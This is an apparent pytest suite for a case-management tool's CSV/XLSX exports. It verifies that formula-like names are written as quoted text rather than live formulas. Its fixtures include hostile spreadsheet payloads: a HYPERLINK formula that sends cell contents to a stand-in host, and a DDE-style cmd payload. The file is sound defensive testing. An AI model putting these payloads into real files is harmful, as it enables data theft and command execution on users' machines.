"""Every CSV and XLSX CSPDesk writes goes through one cell guard (issue 22, item 3): a name that
starts like a formula (=, +, -, @) is written as text with a leading quote, never as a live
formula. Each export is read back (csv; openpyxl with formulas kept) and searched for one."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select, update

from cspdesk.domain.cells import FORMULA_STARTS, guard_cell, unguard_cell
from cspdesk.domain.enums import PanelType
from cspdesk.domain.periods import Period
from cspdesk.services.records_io.action_import import ActionImportService
from cspdesk.services.actions.actions import ActionQuery, ActionService, NewAction
from cspdesk.services.records_io.referral_import import write_templates
from cspdesk.services.papers.returns import ReturnService
from cspdesk.storage.models import Action, Agency, Panel, Partnership

#: Names a hostile or careless administrator could type, each a formula in a spreadsheet.
PARTNERSHIP = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
PANEL = "+SUM(1,1) MARAC"
MARKING = "@OFFICIAL"
AGENCY = "-2+3 Agency"
ACTION = "=1+1"
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _live(value: object) -> bool:
    """Would a spreadsheet run this cell? (A guarded cell starts with a quote; numbers are not
    formulas.)"""
    if not isinstance(value, str) or value[:1] not in FORMULA_STARTS:
        return False
    return guard_cell(value) != value


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(path: Path) -> list[object]:
    from openpyxl import load_workbook

    book = load_workbook(path)  # formulas kept: a formula cell reads back as "=…" with data_type "f"
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


@pytest.fixture
def hostile(demo_ctx):  # noqa: ANN001, ANN201
    """The demo partnership with formula-like names for the partnership, a MARAC panel, its
    marking and an agency, and a formula-like action owned by that agency."""
    with demo_ctx.unit_of_work() as s:
        panel = s.scalars(select(Panel.id).where(Panel.panel_type == PanelType.MARAC).order_by(Panel.id)).first()
        agency = s.scalars(select(Action.owner_agency_id).where(Action.panel_id == panel,
                                                                Action.owner_agency_id.is_not(None))).first()
        s.execute(update(Partnership).values(name=PARTNERSHIP, protective_marking=MARKING))
        s.execute(update(Panel).where(Panel.id == panel).values(name=PANEL))
        s.execute(update(Agency).where(Agency.id == agency).values(name=AGENCY))
    ActionService(demo_ctx).add_action(NewAction(panel_id=panel, text=ACTION, owner_agency_id=agency,
                                                 owner_name=OWNER, number="-1", due_date=date(2026, 12, 1)))
    return demo_ctx, panel


def test_the_guard() -> None:
    for text in (PARTNERSHIP, PANEL, MARKING, AGENCY, ACTION, OWNER, "-", "@", "+44 7700 900123", "\t=1+1",
                 "\r=1+1"):
        assert guard_cell(text) == "'" + text and unguard_cell(guard_cell(text)) == text
    for value in ("Swale MARAC", "", "-3", "-0.5", "1,234", 7, None, date(2026, 1, 1), "'quoted already"):
        assert guard_cell(value) == value


def test_every_export_reads_back_with_no_formula(hostile, tmp_path: Path) -> None:
    ctx, panel = hostile
    written: dict[str, list[object]] = {}
    period = Period(date(2025, 11, 1), date(2026, 10, 31), "The year")
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"return{suffix}"
        ReturnService(ctx).write(panel, period, out)
        written[out.name] = _csv_cells(out.read_bytes()) if suffix == ".csv" else _xlsx_cells(out)
        out = tmp_path / f"actions{suffix}"
        ActionImportService(ctx).export(ActionQuery(panel_id=panel), out)
        written[out.name] = _csv_cells(out.read_bytes()) if suffix == ".csv" else _xlsx_cells(out)
    for path in write_templates(tmp_path / "templates"):
        written[path.name] = _csv_cells(path.read_bytes()) if path.suffix == ".csv" else _xlsx_cells(path)
    for name, cells in written.items():
        assert cells, name
        assert not [c for c in cells if _live(c)], name
    # The hostile names are all there — as text, behind the quote.
    everything = {c for cells in written.values() for c in cells}
    for text in (PARTNERSHIP, PANEL, MARKING):
        assert "'" + text in set(written["return.csv"]) and "'" + text in set(written["return.xlsx"])
    assert {"'" + AGENCY, "'" + ACTION, "'" + OWNER} <= set(written["actions.csv"]) & set(written["actions.xlsx"])
    assert "'" + AGENCY in everything
    # And the figures stay numbers in the workbook.
    assert any(isinstance(c, int) for c in written["return.xlsx"])


def test_an_export_imports_back_without_the_quotes(hostile, tmp_path: Path) -> None:
    ctx, panel = hostile
    imp = ActionImportService(ctx)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"actions{suffix}"
        imp.export(ActionQuery(panel_id=panel), out)
        table = imp.read(out)
        texts = {row.cells[table.headers.index("Action")] for row in table.rows}
        assert "'" + ACTION in texts  # as the file holds it; the importer takes the quote off
        mapping = imp.suggest_mapping(panel, table).mapping.with_column(table.headers.index("Case reference"), None)
        report = imp.import_actions(panel, table, mapping, dry_run=True).value
        assert report.bad_rows == ()
    with ctx.reading() as s:
        assert s.scalar(select(Action.text).where(Action.text == ACTION)) == ACTION


def test_every_writer_in_the_code_uses_the_guard() -> None:
    """A CSV or XLSX writer added later must go through the guard too (read from the source, so a
    new writer without a test of its own is still caught)."""
    import cspdesk

    root = Path(cspdesk.__file__).parent
    writers = [p for p in root.rglob("*.py")
               if "csv.writer(" in (text := p.read_text(encoding="utf-8")) or "Workbook(" in text]
    assert {p.name for p in writers} >= {"data_return.py", "action_import.py", "referral_import.py"}
    unguarded = [str(p.relative_to(root)) for p in writers
                 if not {"guard_row", "guard_cell"} & set(re.findall(r"guard_\w+", p.read_text(encoding="utf-8")))]
    assert unguarded == []
